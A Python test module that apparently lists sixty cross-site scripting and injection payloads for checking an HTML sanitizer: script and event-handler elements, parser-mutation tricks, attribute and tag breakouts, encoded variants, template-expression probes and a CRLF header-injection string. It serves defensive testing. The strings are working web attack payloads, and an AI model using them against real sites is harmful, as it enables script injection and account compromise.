"""Sixty ways to make a page run what somebody wrote, each after another way out of where words stand in a page.

Our own list. Whatever runs says so by `alert`, whatever becomes an element is called `pwn`: both are looked for, and so
is each kind of attribute that could run something. `PRODUCT` is what a template would make of `{{ 1009 * 1013 }}`.
"""

from __future__ import annotations

PRODUCT = str(1009 * 1013)
PAYLOADS = (
    # An element in the middle of words.
    "<script id=pwn>alert(1)</script>",
    "<img id=pwn src=x onerror=alert(1)>",
    "<svg id=pwn onload=alert(1)>",
    "<details id=pwn open ontoggle=alert(1)>",
    "<input id=pwn autofocus onfocus=alert(1)>",
    "<video id=pwn><source onerror=alert(1)></video>",
    "<audio id=pwn src=x onerror=alert(1)></audio>",
    "<body id=pwn onload=alert(1)>",
    "<marquee id=pwn onstart=alert(1)>x</marquee>",
    "<iframe id=pwn srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe id=pwn src=javascript:alert(1)></iframe>",
    "<object id=pwn data=javascript:alert(1)></object>",
    "<embed id=pwn src=javascript:alert(1)>",
    "<a id=pwn href=javascript:alert(1) autofocus>x</a>",
    "<form id=pwn action=javascript:alert(1)><button autofocus>x</button></form>",
    "<button id=pwn form=f formaction=javascript:alert(1)>x</button>",
    "<base id=pwn href=https://elsewhere.example/>",
    "<meta id=pwn http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link id=pwn rel=stylesheet href=https://elsewhere.example/x.css>",
    "<style id=pwn>@import 'https://elsewhere.example/x.css';*{display:none}</style>",
    "<div id=pwn style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
    "<dialog id=pwn open><form method=dialog><button onclick=alert(1) autofocus>x</button></form></dialog>",
    "<select id=pwn autofocus onfocus=alert(1)><option>x</select>",
    "<object id=pwn type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<svg><animate id=pwn onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1) id=pwn><text y=9>x</text></a></svg>",
    "<svg><use id=pwn href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><script id=pwn>alert&lpar;1&rpar;</script></svg>",
    "<math id=pwn href=javascript:alert(1)>x</math>",
    "<xss id=pwn tabindex=1 autofocus onfocus=alert(1)>x</xss>",
    # Markup that a parser mends into something else than a filter saw.
    "<math><mtext><table><mglyph><style><!--</style><img id=pwn title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img id=pwn src=x onerror=alert(1)>'>",
    "<xmp><img id=pwn title='</xmp><img id=pwn src=x onerror=alert(1)>'>",
    "<template><img id=pwn src=x onerror=alert(1)></template>",
    "<svg></p><style><a title='</style><img id=pwn src=x onerror=alert(1)>'>",
    "<<script id=pwn>alert(1)//<</script>",
    "<script/src=data:,alert(1) id=pwn></script>",
    "<img/id=pwn/src=x\n/onerror\x0c=alert(1)>",
    "<scr<script>ipt id=pwn>alert(1)</scr</script>ipt>",
    "<img id=pwn src=x onerror=&#x61;lert(1)>",
    # Out of an attribute, a comment, a title, a text area, a script, a style, a link.
    '" autofocus onfocus=alert(1) id=pwn x="',
    "' autofocus onfocus=alert(1) id=pwn x='",
    "x autofocus onfocus=alert(1) id=pwn",
    '"><img id=pwn src=x onerror=alert(1)>',
    "'><svg id=pwn onload=alert(1)>",
    "--><img id=pwn src=x onerror=alert(1)><!--",
    "</title><img id=pwn src=x onerror=alert(1)>",
    "</textarea><img id=pwn src=x onerror=alert(1)>",
    "</select></option><img id=pwn src=x onerror=alert(1)>",
    "</script><script id=pwn>alert(1)</script>",
    "</style><img id=pwn src=x onerror=alert(1)>",
    '";alert(1);"',
    "'-alert(1)-'",
    "javascript:alert(1)//\" onmouseover=alert(1) id=pwn style=position:fixed;inset:0",
    # What somebody else may undo: written twice over, wide letters, a format, a template, the head of a reply.
    "&lt;img id=pwn src=x onerror=alert(1)&gt;",
    "%3Cimg%20id%3Dpwn%20src%3Dx%20onerror%3Dalert(1)%3E",
    "\\u003cimg id=pwn src=x onerror=alert(1)\\u003e",
    "＜img id=pwn src=x onerror=alert(1)＞",
    "{{ 1009 * 1013 }}${1009 * 1013}#{1009 * 1013}<%= 1009 * 1013 %>{% print(1009 * 1013) %}",
    "x\r\nSet-Cookie: pwn=1\r\nContent-Type: text/html\r\n\r\n<img id=pwn src=x onerror=alert(1)>",
)  # fmt: skip
